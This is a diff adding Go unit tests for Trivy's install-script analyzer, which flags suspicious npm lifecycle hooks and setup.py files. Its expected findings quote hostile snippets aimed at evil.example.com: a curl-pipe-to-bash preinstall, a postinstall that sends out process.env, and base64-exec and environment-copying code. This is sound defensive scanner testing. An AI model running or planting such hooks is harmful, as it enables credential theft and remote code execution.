@@ -0,0 +1,162 @@
+package installscript
+
+import (
+	"context"
+	"os"
+	"testing"
+
+	"github.com/samber/lo"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/aquasecurity/trivy/pkg/fanal/analyzer"
+	"github.com/aquasecurity/trivy/pkg/fanal/types"
+)
+
+func Test_installScriptAnalyzer_Analyze(t *testing.T) {
+	type failure struct {
+		id      string
+		line    int
+		message string
+	}
+	tests := []struct {
+		name          string
+		inputFile     string
+		wantFailures  []failure
+		wantSuccesses int
+		wantNil       bool
+	}{
+		{
+			name:      "npm scripts",
+			inputFile: "testdata/npm-malicious/package.json",
+			wantFailures: []failure{
+				{
+					id:      "SC001",
+					line:    5,
+					message: "'preinstall' downloads and executes code: 'curl -fsSL https://evil.example.com/install.sh | bash'",
+				},
+				{
+					id:      "SC002",
+					line:    5,
+					message: "'preinstall' accesses the network: 'https://evil.example.com/install.sh'",
+				},
+				{
+					id:      "SC002",
+					line:    6,
+					message: "'postinstall' accesses the network: 'https://evil.example.com/?d='",
+				},
+				{
+					id:      "SC003",
+					line:    6,
+					message: "'postinstall' reads credentials: 'JSON.stringify(process.env)'",
+				},
+			},
+			wantSuccesses: 1,
+		},
+		{
+			name:          "npm native addon",
+			inputFile:     "testdata/npm-native/package.json",
+			wantSuccesses: 4,
+		},
+		{
+			name:      "npm without install scripts",
+			inputFile: "testdata/npm-no-hooks/package.json",
+			wantNil:   true,
+		},
+		{
+			name:      "setup.py",
+			inputFile: "testdata/setup-malicious/setup.py",
+			wantFailures: []failure{
+				{
+					id:      "SC002",
+					line:    3,
+					message: "'setup.py' accesses the network: 'import urllib.request'",
+				},
+				{
+					id:      "SC002",
+					line:    9,
+					message: "'setup.py' accesses the network: 'urlopen('",
+				},
+				{
+					id:      "SC003",
+					line:    8,
+					message: "'setup.py' reads credentials: 'os.environ.copy()'",
+				},
+				{
+					id:      "SC004",
+					line:    10,
+					message: "'setup.py' executes obfuscated code: 'exec(base64.b64decode('",
+				},
+			},
+			wantSuccesses: 1,
+		},
+		{
+			name:          "benign setup.py",
+			inputFile:     "testdata/setup-benign/setup.py",
+			wantSuccesses: 4,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			f, err := os.Open(tt.inputFile)
+			require.NoError(t, err)
+			defer f.Close()
+
+			a := installScriptAnalyzer{}
+			got, err := a.Analyze(context.Background(), analyzer.AnalysisInput{
+				FilePath: tt.inputFile,
+				Content:  f,
+			})
+			require.NoError(t, err)
+			if tt.wantNil {
+				assert.Nil(t, got)
+				return
+			}
+
+			require.Len(t, got.Misconfigurations, 1)
+			misconf := got.Misconfigurations[0]
+			assert.Equal(t, types.InstallScript, misconf.FileType)
+			assert.Equal(t, tt.inputFile, misconf.FilePath)
+
+			failures := lo.Map(misconf.Failures, func(res types.MisconfResult, _ int) failure {
+				return failure{
+					id:      res.ID,
+					line:    res.StartLine,
+					message: res.Message,
+				}
+			})
+			assert.Equal(t, tt.wantFailures, lo.Ternary(len(failures) == 0, nil, failures))
+			assert.Len(t, misconf.Successes, tt.wantSuccesses)
+		})
+	}
+}
+
+func Test_installScriptAnalyzer_Required(t *testing.T) {
+	tests := []struct {
+		name     string
+		filePath string
+		want     bool
+	}{
+		{
+			name:     "package.json",
+			filePath: "node_modules/lodash/package.json",
+			want:     true,
+		},
+		{
+			name:     "setup.py",
+			filePath: "requests-2.31.0/setup.py",
+			want:     true,
+		},
+		{
+			name:     "other",
+			filePath: "package-lock.json",
+			want:     false,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a := installScriptAnalyzer{}
+			assert.Equal(t, tt.want, a.Required(tt.filePath, nil))
+		})
+	}
+}